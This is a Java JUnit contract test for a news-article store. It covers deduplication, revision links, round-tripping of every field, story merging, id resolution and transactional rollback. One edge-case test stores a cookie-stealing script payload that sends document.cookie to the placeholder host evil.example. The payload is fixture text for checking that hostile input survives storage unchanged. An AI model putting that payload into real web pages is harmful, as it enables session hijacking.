package org.storytrace.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.storytrace.store.SeedArticles.INGESTED;
import static org.storytrace.store.SeedArticles.article;
import static org.storytrace.store.SeedArticles.paragraphs;
import static org.storytrace.store.SeedArticles.seed;
import static org.storytrace.store.SeedArticles.seedText;
import static org.storytrace.store.SeedArticles.stored;

import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.storytrace.model.Article;
import org.storytrace.model.ArticleMetadata;
import org.storytrace.model.Fingerprint;
import org.storytrace.model.Story;
import org.storytrace.model.Truncation;
import org.storytrace.store.ArticleStore.PutResult;

/**
 * What every {@link ArticleStore} must do, whatever it is built on. An adapter's test extends this class and
 * says how to open a store on a folder; the store is opened fresh for each test.
 */
public abstract class ArticleStoreContract {
    @TempDir
    protected Path dir;

    protected ArticleStore store;

    /** Opens the adapter's store on {@code dir}; called again on the same folder to test reopening. */
    protected abstract ArticleStore openStore(Path dir);

    @BeforeEach
    void openFreshStore() {
        store = openStore(dir);
    }

    @AfterEach
    void closeStore() {
        store.close();
    }

    private static Article teaserOf000() {
        // The first paragraph alone, as a paywalled republication shows it: truncated by an unknown amount.
        return article("https://example.org/teaser/000", paragraphs("000").get(0), ArticleMetadata.EMPTY,
                new Truncation(true, Double.NaN, List.of("Subscribe to read the rest")), INGESTED);
    }

    @Test
    void sameArticleTwiceIsStoredOnce() {
        Article first = seed("000");
        Article again = article("elsewhere/copy-of-000.txt", seedText("000"), ArticleMetadata.EMPTY, Truncation.NONE,
                INGESTED.plusSeconds(3600));

        assertThat(store.put(stored(first, "story-a"))).isEqualTo(PutResult.NEW);
        assertThat(store.put(stored(again, "story-b"))).isEqualTo(PutResult.ALREADY_KNOWN);

        assertThat(store.articleCount()).isEqualTo(1);
        assertThat(store.containsHash(first.contentHash())).isTrue();
        assertThat(store.article(first.id())).hasValue(stored(first, "story-a"));
        assertThat(store.stories()).extracting(Story::id).containsExactly("story-a");
    }

    @Test
    void revisionIsLinkedToItsPredecessorAndFoundAsTheLatestByCanonicalUrl() {
        ArticleMetadata page = new ArticleMetadata("https://www.example.org/a?utm_source=x", null, null, null, null, null);
        Article first = article("a.jsonl:1", paragraphs("000").get(0), page, Truncation.NONE, INGESTED);
        Article edited = article("a.jsonl:2", paragraphs("000").get(0) + " Updated at noon.",
                new ArticleMetadata("HTTPS://WWW.EXAMPLE.ORG/a#top", null, null, null, null, null), Truncation.NONE, INGESTED);
        StoredArticle revision = new StoredArticle(edited, "story-a", stored(edited, "story-a").fingerprint(), first.id());

        store.put(stored(first, "story-a"));
        assertThat(store.latestByUrl("https://www.example.org/a")).hasValue(stored(first, "story-a"));
        store.put(revision);

        assertThat(store.latestByUrl("https://www.example.org/a")).hasValue(revision);
        assertThat(store.article(edited.id()).orElseThrow().revisionOf()).isEqualTo(first.id());
        assertThat(store.latestByUrl("https://www.example.org/b")).isEmpty();
        assertThat(store.latestByUrl(null)).isEmpty();
    }

    @Test
    void articleRoundTripsEveryField() {
        Article full = article("exports/unian.jsonl:4", seedText("004"),
                new ArticleMetadata("https://example.org/uk/війська?id=4&lang=en", "Війська в Україну — «обговорення» 🇺🇦",
                        "UNIAN", "Ім'я Прізвище", Instant.parse("2024-11-25T08:15:30.000000001Z"), "uk"),
                new Truncation(true, Double.NaN, List.of("Read more in the app", "…")),
                List.of("Share on Facebook", "<script>alert('furniture')</script>"),
                INGESTED);
        Article bare = article("paste", "<script>alert(\"x\")</script>\n\nBody after a script tag, with ünïcödé.",
                new ArticleMetadata(null, null, null, null, null, null),
                new Truncation(true, 0.25, List.of()), Instant.EPOCH);
        StoredArticle withFingerprint = stored(full, "story-a");
        StoredArticle withEmptyFingerprint = new StoredArticle(bare, "story-b", new Fingerprint(new int[0], List.of()));

        store.put(withFingerprint);
        store.put(withEmptyFingerprint);

        assertThat(Arrays.stream(withFingerprint.fingerprint().minHash()).min().orElseThrow()).as("fixture has a negative hash").isNegative();
        assertThat(store.article(full.id())).hasValue(withFingerprint);
        assertThat(store.article(bare.id())).hasValue(withEmptyFingerprint);
        assertThat(store.article(full.id()).orElseThrow().article().truncation().visibleFraction()).isNaN();
    }

    @Test
    void hostileAndEnormousTextsRoundTripUnchanged() {
        List<String> texts = List.of(
                " ",
                "<script>document.location='https://evil.example/?c='+document.cookie</script>",
                "Emoji 🧨🇫🇷 and a lone combining mark: e\u0301",
                "NUL\u0000inside\u0000the text",
                "Ukraine ".repeat(131_072));
        List<StoredArticle> written = new ArrayList<>();
        for (String text : texts) {
            StoredArticle s = stored(article("edge-cases.jsonl:" + written.size(), text, ArticleMetadata.EMPTY,
                    Truncation.NONE, INGESTED), "edge");
            store.put(s);
            written.add(s);
        }

        for (StoredArticle s : written) {
            assertThat(store.article(s.article().id())).hasValue(s);
        }
    }

    @Test
    void settingsAreReadBackReplacedAndKeptAcrossReopen() {
        assertThat(store.setting("minhash_scheme")).isEmpty();
        store.putSetting("minhash_scheme", "classic-128");
        store.putSetting("minhash_scheme", "oph-densified-1");

        store.close();
        store = openStore(dir);

        assertThat(store.setting("minhash_scheme")).hasValue("oph-densified-1");
        assertThat(store.setting("other")).isEmpty();
    }

    @Test
    void aReplacedSignatureIsTheOnlyThingThatChanges() {
        StoredArticle original = stored(seed("000"), "story-a");
        store.put(original);
        int[] replacement = new int[original.fingerprint().minHash().length];
        java.util.Arrays.fill(replacement, 7);

        assertThat(store.replaceSignature(original.article().id(), replacement)).isTrue();
        assertThat(store.replaceSignature("no-such-article", replacement)).isFalse();

        StoredArticle after = store.article(original.article().id()).orElseThrow();
        assertThat(after.fingerprint().minHash()).isEqualTo(replacement);
        assertThat(after.fingerprint().keys()).isEqualTo(original.fingerprint().keys());
        assertThat(after.article()).isEqualTo(original.article());
        assertThat(after.storyId()).isEqualTo(original.storyId());
    }

    @Test
    void storeSurvivesReopenWithSameContent() {
        store.put(stored(seed("000"), "story-a"));
        store.put(stored(teaserOf000(), "story-a"));
        store.put(stored(seed("004"), "story-b"));
        List<StoredArticle> before = new ArrayList<>();
        store.forEach(before::add);
        List<Story> storiesBefore = store.stories();
        int version = store.schemaVersion();

        store.close();
        store = openStore(dir);

        List<StoredArticle> after = new ArrayList<>();
        store.forEach(after::add);
        assertThat(after).hasSize(3).isEqualTo(before);
        assertThat(store.stories()).isEqualTo(storiesBefore);
        assertThat(store.schemaVersion()).isEqualTo(version);
        assertThat(store.put(stored(seed("004"), "story-b"))).isEqualTo(PutResult.ALREADY_KNOWN);
    }

    @Test
    void storiesAreListedLargestFirstWithLanguagesAndSeenTimes() {
        Instant teaserPublished = Instant.parse("2024-11-24T18:00:00Z");
        Instant published004 = Instant.parse("2024-11-25T00:00:00Z");
        // Language labels are what extraction would declare; the store keeps whatever it is given.
        Article a000 = article(SeedArticles.seedFile("000").toString(), seedText("000"),
                ArticleMetadata.EMPTY.withLanguage("en"), Truncation.NONE, INGESTED);
        Article teaser = article("https://example.org/teaser/000", paragraphs("000").get(0),
                new ArticleMetadata(null, null, null, null, teaserPublished, null), Truncation.NONE, INGESTED);
        Article a004 = article(SeedArticles.seedFile("004").toString(), seedText("004"),
                new ArticleMetadata(null, null, null, null, published004, "uk"), Truncation.NONE, INGESTED);
        Article lateSingle = article("late.txt", paragraphs("004").get(1), ArticleMetadata.EMPTY, Truncation.NONE,
                INGESTED.plusSeconds(60));
        Article earlySingle = article("early.txt", paragraphs("004").get(2),
                new ArticleMetadata(null, null, null, null, Instant.parse("2024-11-20T00:00:00Z"), "en"),
                Truncation.NONE, INGESTED);

        store.put(stored(lateSingle, "late"));
        store.put(stored(a000, "troops"));
        store.put(stored(teaser, "troops"));
        store.put(stored(earlySingle, "early"));
        store.put(stored(a004, "troops"));

        List<Story> stories = store.stories();
        assertThat(stories).extracting(Story::id).containsExactly("troops", "early", "late");
        Story troops = stories.get(0);
        assertThat(troops.articleIds()).containsExactly(a000.id(), teaser.id(), a004.id());
        assertThat(troops.languages()).containsExactly("en", "uk");
        assertThat(troops.firstSeen()).isEqualTo(teaserPublished);
        assertThat(troops.lastSeen()).isEqualTo(INGESTED);
        assertThat(store.story("troops")).hasValue(troops);
        assertThat(store.story("late").orElseThrow().languages()).isEmpty();
        assertThat(store.story("no-such-story")).isEmpty();
    }

    @Test
    void mergeStoriesMovesEveryMember() {
        Article a000 = seed("000");
        Article teaser = teaserOf000();
        Article a004 = seed("004");
        store.put(stored(a000, "kept"));
        store.put(stored(a004, "absorbed"));
        store.put(stored(teaser, "absorbed"));

        store.mergeStories("kept", "absorbed");

        assertThat(store.storyMembers("kept")).extracting(s -> s.article().id())
                .containsExactly(a000.id(), a004.id(), teaser.id());
        assertThat(store.storyMembers("kept")).extracting(StoredArticle::storyId).containsOnly("kept");
        assertThat(store.storyMembers("absorbed")).isEmpty();
        assertThat(store.story("absorbed")).isEmpty();
        assertThat(store.stories()).extracting(Story::id).containsExactly("kept");
        assertThat(store.article(teaser.id()).orElseThrow().storyId()).isEqualTo("kept");
    }

    @Test
    void resolveFindsByIdPrefixAndByFileName() {
        Article a000 = seed("000");
        Article a004 = seed("004");
        Article fromJsonl = article("exports/feed-2024.jsonl:12", paragraphs("004").get(3),
                new ArticleMetadata("https://example.org/news/troops", null, null, null, null, null),
                Truncation.NONE, INGESTED);
        store.put(stored(a000, "s"));
        store.put(stored(a004, "s"));
        store.put(stored(fromJsonl, "s"));

        assertThat(store.resolve(a000.id())).containsExactly(a000);
        assertThat(store.resolve(a004.id().substring(0, 7))).containsExactly(a004);
        assertThat(store.resolve("000")).as("seed file name prefix").containsExactly(a000);
        assertThat(store.resolve("004_554aa86091631b34.txt")).containsExactly(a004);
        assertThat(store.resolve("feed-2024")).as("JSONL file name without :line").containsExactly(fromJsonl);
        assertThat(store.resolve("exports/feed-2024.jsonl:12")).as("whole origin").containsExactly(fromJsonl);
        assertThat(store.resolve("https://example.org/news/troops")).as("url").containsExactly(fromJsonl);
        assertThat(store.resolve("nothing-like-this")).isEmpty();
        assertThat(store.resolve("")).isEmpty();
    }

    @Test
    void resolveReportsEveryAmbiguousMatch() {
        // 22 paragraphs and 16 hex digits: at least two ids must share their first digit.
        List<Article> articles = new ArrayList<>();
        for (String prefix : List.of("000", "004")) {
            List<String> paras = paragraphs(prefix);
            for (int line = 0; line < paras.size(); line++) {
                articles.add(article("export-" + prefix + ".jsonl:" + (line + 1), paras.get(line),
                        ArticleMetadata.EMPTY, Truncation.NONE, INGESTED));
            }
        }
        articles.forEach(a -> store.put(stored(a, "s")));
        Map<String, List<Article>> byFirstDigit = articles.stream()
                .collect(Collectors.groupingBy(a -> a.id().substring(0, 1)));
        String shared = byFirstDigit.entrySet().stream().filter(e -> e.getValue().size() > 1)
                .map(Map.Entry::getKey).findFirst().orElseThrow();

        assertThat(store.resolve(shared)).containsExactlyElementsOf(byFirstDigit.get(shared));
        assertThat(store.resolve("export-004")).hasSize(paragraphs("004").size())
                .containsExactlyElementsOf(articles.subList(paragraphs("000").size(), articles.size()));
        assertThat(store.resolve("export")).hasSize(articles.size());
    }

    @Test
    void failedWriteLeavesNothingBehind() {
        Article a000 = seed("000");
        Article a004 = seed("004");
        store.put(stored(a000, "story-a"));

        // A blank story id is refused by the story row, which is written after the article row.
        assertThatThrownBy(() -> store.put(stored(a004, " ")))
                .hasMessageContaining(a004.id());

        assertThat(store.containsHash(a004.contentHash())).isFalse();
        assertThat(store.article(a004.id())).isEmpty();
        assertThat(store.articleCount()).isEqualTo(1);
        assertThat(store.stories()).extracting(Story::id).containsExactly("story-a");
        assertThat(store.put(stored(a004, "story-b"))).as("store still writable").isEqualTo(PutResult.NEW);
        assertThat(store.storyMembers("story-b")).extracting(s -> s.article().id()).containsExactly(a004.id());
    }

    @Test
    void writesInsideAtomicallyAreCommittedTogether() {
        Article a000 = seed("000");
        Article a004 = seed("004");

        List<PutResult> results = store.atomically(() -> List.of(store.put(stored(a000, "story-a")),
                store.put(stored(a004, "story-a")), store.put(stored(a000, "story-a"))));

        assertThat(results).containsExactly(PutResult.NEW, PutResult.NEW, PutResult.ALREADY_KNOWN);
        assertThat(store.storyMembers("story-a")).extracting(s -> s.article().id()).containsExactly(a000.id(), a004.id());
    }

    @Test
    void failureInsideAtomicallyTakesBackEveryWriteOfIt() {
        Article a000 = seed("000");
        Article a004 = seed("004");
        Article teaser = teaserOf000();
        store.put(stored(teaser, "story-t"));

        // The second put is refused (blank story id): the first, already written in the same transaction, goes too.
        assertThatThrownBy(() -> store.atomically(() -> {
            store.put(stored(a000, "story-a"));
            store.mergeStories("story-a", "story-t");
            return store.put(stored(a004, " "));
        })).hasMessageContaining(a004.id());

        assertThat(store.containsHash(a000.contentHash())).isFalse();
        assertThat(store.articleCount()).isEqualTo(1);
        assertThat(store.stories()).extracting(Story::id).containsExactly("story-t");
        assertThat(store.put(stored(a000, "story-a"))).as("store still writable, one put at a time").isEqualTo(PutResult.NEW);
    }

    @Test
    void articleWhoseIdCollidesIsRefusedAndTheFirstKept() {
        Article a000 = seed("000");
        store.put(stored(a000, "story-a"));
        // A different text whose hash starts with the same 16 digits: rare, but it must not replace the first.
        String collidingHash = a000.id() + "f".repeat(48);
        Article colliding = new Article(a000.id(), collidingHash, "collision.txt", ArticleMetadata.EMPTY,
                seedText("004"), Truncation.NONE, List.of(), INGESTED);

        assertThatThrownBy(() -> store.put(stored(colliding, "story-new")))
                .hasMessageContaining(a000.id())
                .hasMessageContaining("collision.txt");

        assertThat(store.containsHash(collidingHash)).isFalse();
        assertThat(store.article(a000.id())).hasValue(stored(a000, "story-a"));
        assertThat(store.stories()).extracting(Story::id).containsExactly("story-a");
    }

    @Test
    void forEachVisitsEveryArticleInInsertionOrder() {
        List<Article> articles = List.of(seed("004"), teaserOf000(), seed("000"));
        articles.forEach(a -> store.put(stored(a, "s-" + a.id())));

        List<Article> visited = new ArrayList<>();
        store.forEach(s -> visited.add(s.article()));

        assertThat(visited).containsExactlyElementsOf(articles);
    }
}
